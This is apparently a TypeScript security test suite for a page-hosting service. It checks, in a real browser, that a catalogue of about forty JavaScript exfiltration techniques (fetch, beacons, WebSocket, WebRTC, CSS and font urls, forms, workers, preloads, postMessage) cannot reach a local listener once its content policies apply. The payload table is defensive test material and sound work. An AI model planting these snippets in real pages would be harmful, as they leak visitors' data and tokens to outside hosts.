/**
 * Every way out of a page that the design names, tried in a real browser from inside a hostile page against a server that listens.
 * What arrives there has got out; nothing may. Where the browser has Connection Allowlists, not even a connection is made.
 */
import assert from 'node:assert/strict';
import { createSocket, type Socket } from 'node:dgram';
import { createServer as createHttpServer } from 'node:http';
import { createServer, type Server } from 'node:net';
import { after, before, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Browser } from 'playwright-core';
import { openBrowser, withoutChromium } from './support/browser.ts';
import { openServer, type OpenServer } from './support/open-server.ts';
import { makeTestArtifact } from './support/test-artifact.ts';

const skip = withoutChromium();

let browser: Browser;
let server: OpenServer;
let listener: Server;
let datagrams: Socket;
/** What arrived: `connection`, the first line of a request, `datagram`. */
const arrived: string[] = [];

before(async () => {
  if (skip) return;
  listener = createServer((socket) => {
    arrived.push('connection');
    socket
      .on('error', () => undefined)
      .on('data', (data) => {
        arrived.push(data.toString('latin1').split('\r\n', 1)[0] ?? '');
        socket.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n');
      });
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  datagrams = createSocket('udp4').on('message', () => arrived.push('datagram'));
  await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve));
  server = await openServer();
  await server.listen();
  browser = await openBrowser();
});
after(async () => {
  await browser?.close();
  await server?.close();
  listener?.close();
  datagrams?.close();
});

const portOf = (one: Server | Socket): number => {
  const address = one.address();
  return typeof address === 'object' && address !== null ? address.port : 0;
};

/** Name of a way out → JavaScript that takes it, from `WEB` (an http origin), `HOST` (its host and port) or `UDP` (a port). */
const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: `fetch('WEB/fetch').catch(() => {}); fetch('WEB/fetch', { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }).catch(() => {})`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', 'WEB/xhr'); x.send()`,
  beacon: `navigator.sendBeacon('WEB/beacon', 'x')`,
  WebSocket: `new WebSocket('ws://HOST/socket')`,
  EventSource: `new EventSource('WEB/events')`,
  image: `new Image().src = 'WEB/image'; document.body.insertAdjacentHTML('beforeend', '<img src="WEB/img"><img srcset="WEB/srcset 2x"><picture><source srcset="WEB/source"><img></picture><input type=image src="WEB/input">')`,
  svg: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="WEB/svgimage"/><use href="WEB/use#a"/><filter id=f><feImage href="WEB/feimage"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>')`,
  'CSS url': `document.body.style.background = 'url(WEB/background)'; const s = document.createElement('style'); s.textContent = '@import url(WEB/import); p { cursor: url(WEB/cursor), auto; list-style-image: url(WEB/list) }'; document.head.append(s)`,
  font: `const s = document.createElement('style'); s.textContent = '@font-face { font-family: f; src: url(WEB/font) } body { font-family: f }'; document.head.append(s); new FontFace('g', 'url(WEB/face)').load().catch(() => {})`,
  media: `new Audio('WEB/audio').play().catch(() => {}); document.body.insertAdjacentHTML('beforeend', '<video src="WEB/video" poster="WEB/poster" autoplay muted></video><video><track default src="WEB/track"></video>')`,
  form: `const f = document.createElement('form'); f.action = 'WEB/form'; f.method = 'post'; document.body.append(f); f.submit()`,
  'form of a click': `document.body.insertAdjacentHTML('beforeend', '<form action="WEB/get"><button id=b formaction="WEB/formaction">x</button></form>'); document.getElementById('b').click()`,
  anchor: `const a = document.createElement('a'); a.href = 'WEB/anchor'; document.body.append(a); a.click(); a.dispatchEvent(new MouseEvent('click', { ctrlKey: true }))`,
  'anchor in a new window': `const a = document.createElement('a'); a.href = 'WEB/blank'; a.target = '_blank'; document.body.append(a); a.click()`,
  'anchor to the top': `const a = document.createElement('a'); a.href = 'WEB/top'; a.target = '_top'; document.body.append(a); a.click()`,
  ping: `const a = document.createElement('a'); a.href = '#here'; a.ping = 'WEB/ping'; document.body.append(a); a.click()`,
  download: `const a = document.createElement('a'); a.href = 'WEB/download'; a.download = 'x'; document.body.append(a); a.click()`,
  'meta refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=WEB/refresh">')`,
  location: `location.href = 'WEB/location'`,
  'location.replace': `location.replace('WEB/replace')`,
  'location of the top': `try { top.location = 'WEB/top' } catch {} try { parent.location.href = 'WEB/parent' } catch {}`,
  'window.open': `window.open('WEB/open'); window.open('WEB/self', '_self')`,
  iframe: `const f = document.createElement('iframe'); f.src = 'WEB/iframe'; document.body.append(f)`,
  'iframe with a document': `const f = document.createElement('iframe'); f.srcdoc = '<img src="WEB/srcdoc"><script>fetch("WEB/srcdocfetch"); new (window.RTCPeerConnection)({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] }).createDataChannel("x")<\\/script>'; document.body.append(f)`,
  object: `document.body.insertAdjacentHTML('beforeend', '<object data="WEB/object"></object><embed src="WEB/embed">')`,
  worker: `try { new Worker('WEB/worker') } catch {} try { new Worker(URL.createObjectURL(new Blob(["fetch('WEB/blobworker')"]))) } catch {} try { new SharedWorker('WEB/sharedworker') } catch {}`,
  'service worker': `navigator.serviceWorker?.register('WEB/serviceworker').catch(() => {})`,
  worklet: `CSS.paintWorklet?.addModule('WEB/paint').catch(() => {}); new OfflineAudioContext(1, 1, 44100).audioWorklet?.addModule('WEB/audioworklet').catch(() => {})`,
  script: `const s = document.createElement('script'); s.src = 'WEB/script'; document.head.append(s); import('WEB/module').catch(() => {})`,
  eval: `try { eval("fetch('WEB/eval')") } catch {}`,
  'link elements': `for (const [rel, as] of [['prefetch'], ['preload', 'image'], ['preload', 'fetch'], ['modulepreload'], ['stylesheet'], ['icon'], ['manifest'], ['prerender'], ['preconnect'], ['dns-prefetch'], ['next']]) { const l = document.createElement('link'); l.rel = rel; if (as) l.as = as; l.href = 'WEB/' + rel; document.head.append(l) }`,
  'speculation rules': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['WEB/speculation'], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: ['WEB/prerender'], eagerness: 'immediate' }] }); document.head.append(s)`,
  WebRTC: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }, { urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`,
  WebTransport: `new WebTransport('https://HOST/transport').closed.catch(() => {})`,
  'a fetch for later': `fetchLater('WEB/later', { activateAfter: 0 })`,
  base: `const b = document.createElement('base'); b.href = 'WEB/'; document.head.append(b); new Image().src = 'relative'`,
  'payment and credentials': `try { new PaymentRequest([{ supportedMethods: 'WEB/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => {}) } catch {} navigator.credentials?.get?.({ identity: { providers: [{ configURL: 'WEB/fedcm', clientId: '1' }] } }).catch(() => {})`,
  'the data routes': `fetch('PAGES/data/collections/a', { headers: { authorization: 'Bearer x' } }).then(() => fetch('WEB/data')).catch(() => {})`,
  'the storage of the browser': `try { localStorage.setItem('a', 'b'); fetch('WEB/storage') } catch {} try { document.cookie = 'a=b' } catch {}`,
  'the frame above': `try { parent.document.body.insertAdjacentHTML('beforeend', '<img src="WEB/parentimage">') } catch {} parent.postMessage({ link: 'WEB/x' }, '*'); parent.postMessage('octavo:hello', '*')`,
};

/** Those that try to put another page in the place of this one. */
const LEAVING = new Set(['form', 'form of a click', 'anchor', 'download', 'meta refresh', 'location', 'location.replace', 'window.open']);

/** Chromium with an allowlist of connections ends the process of a page that does this. */
const CRASHING = new Set(['iframe with a document']);

const hostilePage = (script: string): string =>
  `<!doctype html><html><head><title>Hostile</title></head><body><p>Hello</p><script>console.log('tried'); addEventListener('unhandledrejection', (e) => e.preventDefault()); try { ${script} } catch (e) { console.log('stopped: ' + e.message) }</script></body></html>`;

async function visit(url: string): Promise<string[]> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  page.on('dialog', (dialog) => void dialog.dismiss());
  await page.goto(url).catch((error: unknown) => {
    // a page may bring its own process down while it loads, and no other
    if (!/Page crashed/.test(String(error))) throw error;
    said.push('crashed');
  });
  for (let waited = 0; !said.includes('tried') && !said.includes('crashed') && waited < 60_000; waited += 25) await sleep(25);
  await page.waitForTimeout(250).catch(() => undefined);
  assert.equal(context.pages().length, 1, 'a window was opened');
  await context.close();
  return said;
}

function withAddresses(script: string): string {
  const host = `127.0.0.1:${portOf(listener)}`;
  return script
    .replaceAll('WEB', `http://${host}`)
    .replaceAll('HOST', host)
    .replaceAll('UDP', String(portOf(datagrams)))
    .replaceAll('PAGES', `http://127.0.0.1:${portOf(server.artifactApp.server)}`);
}

for (const [name, script] of Object.entries(WAYS_OUT)) {
  test(`a page gets nothing out by ${name}`, { skip, timeout: 600_000 }, async () => {
    const { url } = await makeTestArtifact(server, hostilePage(withAddresses(script)));
    arrived.length = 0;
    const said = await visit(url);
    assert.ok(said.includes('tried') || (CRASHING.has(name) && said.includes('crashed')), `the page did not run: ${said.join('; ')}`);
    assert.deepEqual(arrived, []);
  });
}

/** The same origin without these headers, as an older browser or no policy would see it: answers from loopback too, so that nothing else stops a page. */
async function serveWithout(names: readonly string[]): Promise<{ pages: OpenServer; close(): Promise<void> }> {
  const origin = createHttpServer((request, answer) => {
    const { 'accept-encoding': _, ...asked } = request.headers;
    void pages.artifactApp
      .inject({ method: 'GET', url: request.url ?? '/', headers: asked })
      .then(({ statusCode, headers, rawPayload }) => {
        for (const name of names) delete headers[name];
        answer.writeHead(statusCode, Object.fromEntries(Object.entries(headers).map(([name, value]) => [name, String(value)])));
        answer.end(rawPayload);
      });
  });
  await new Promise<void>((resolve) => origin.listen(0, '127.0.0.1', resolve));
  const pages = await openServer({ artifactUrl: () => `http://127.0.0.1:${portOf(origin)}` });
  return {
    pages,
    async close() {
      origin.closeAllConnections();
      origin.close();
      await pages.close();
    },
  };
}

test('without the policies the same page gets out, so that the listener is known to hear it', { skip }, async (t) => {
  const { pages, close } = await serveWithout(['connection-allowlist', 'content-security-policy']);
  t.after(close);
  const { url } = await makeTestArtifact(pages, hostilePage(withAddresses(`new Image().src = 'WEB/open'`)));
  arrived.length = 0;
  await visit(url);
  assert.ok(
    arrived.some((one) => one.startsWith('GET /open')),
    arrived.join('; '),
  );
});

test(
  'in a browser without Connection Allowlists nothing that is sent arrives: a connection at most',
  { skip, timeout: 240_000 },
  async (t) => {
    const { pages, close } = await serveWithout(['connection-allowlist']);
    t.after(close);
    const got: string[] = [];
    const staying = Object.entries(WAYS_OUT).filter(([name]) => !LEAVING.has(name));
    const together = staying.map(([, script]) => `try { (() => { ${script} })() } catch {}`).join('\n');
    for (const [name, script] of [['all that stay', together] as const, ...Object.entries(WAYS_OUT).filter(([one]) => LEAVING.has(one))]) {
      const { url } = await makeTestArtifact(pages, hostilePage(withAddresses(script)));
      arrived.length = 0;
      const said = await visit(url);
      assert.ok(said.includes('tried'), `the page did not run: ${said.join('; ')}`);
      got.push(...arrived.filter((one) => one !== 'connection').map((one) => `${name}: ${one}`));
    }
    assert.deepEqual(got, []);
  },
);

test('an outside link opens once the visitor has seen where it goes, and not before', { skip, timeout: 600_000 }, async () => {
  const { url } = await makeTestArtifact(server, hostilePage('').replace('Hello', withAddresses('<a href="WEB/outside">out</a>')));
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(url);
  const inside = page.frames().find((frame) => frame.url().includes('/p/')) ?? assert.fail();
  await inside.waitForLoadState();
  arrived.length = 0;
  await inside.click('a');
  await page.waitForSelector('#bar code');
  assert.equal(await page.textContent('#bar code'), withAddresses('WEB/outside'));
  assert.equal(arrived.length, 0);
  await page.click('#bar a');
  const isOut = (one: string): boolean => one.startsWith('GET /outside');
  for (let waited = 0; !arrived.some(isOut) && waited < 60_000; waited += 25) await sleep(25);
  assert.ok(arrived.some(isOut), arrived.join('; '));
  await context.close();
});
